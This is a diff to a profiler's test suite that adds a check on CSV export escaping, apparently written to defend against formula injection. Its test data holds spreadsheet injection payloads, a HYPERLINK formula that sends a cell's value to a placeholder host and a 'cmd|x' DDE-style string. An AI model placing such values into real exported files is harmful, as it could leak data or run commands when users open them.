@@ -690,6 +690,19 @@ def a_stack_as_deep_as_the_file():
     check(r.returncode == 0 and b"r" in r.stdout, f"report of a deep stack: {r.returncode} {r.stderr!r}")
 
 
+def formulas_are_text():
+    """A spreadsheet computes what begins like a formula, and programs choose the names."""
+    first = "=+-@"
+    path = change("formulas.gpuctr",
+                  ("UPDATE kernel SET name = substr(?, id % 4 + 1, 1) || 'HYPERLINK(\"http://x\"&A1)', mangled = '@x'", (first,)),
+                  ("UPDATE range SET message = substr(?, id % 4 + 1, 1) || 'cmd|x', domain = ''", (first,)))
+    for arguments in ["--to", "csv"], ["--to", "pyprof", "--csv", "-c", "kernel,op,layer,params,tc,seq"]:
+        rows = list(csv.reader(export(path, *arguments).decode().splitlines()))
+        fields = [f for row in rows for f in row]
+        check(not [f for f in fields if len(f) > 1 and f[0] in first + "\t\r"], f"{arguments}: a formula")
+        check(sum(f.startswith("'=HYPERLINK") for f in fields) > 0, f"{arguments}: names are gone")
+
+
 def nobody_reads():
     read, write = os.pipe()
     os.close(read)
@@ -728,7 +741,7 @@ def commands_of_the_docs():
 def main():
     tests = [commands_of_the_docs, the_recording, worse_captures, wild_values, hostile_names, several_processes, perfetto_is_the_capture,
              protoc_reads_it, perfetto_of_worse_captures, names_of_perfetto_are_bounded, folded_sums,
-             lines_of_pyprof, pyprof_of_tensor_cores, layouts_of_pyprof, files, what_is_read_is_not_written, a_stack_as_deep_as_the_file, nobody_reads]
+             lines_of_pyprof, pyprof_of_tensor_cores, layouts_of_pyprof, files, formulas_are_text, what_is_read_is_not_written, a_stack_as_deep_as_the_file, nobody_reads]
     return run_tests(tests, RECORDING)
 
 
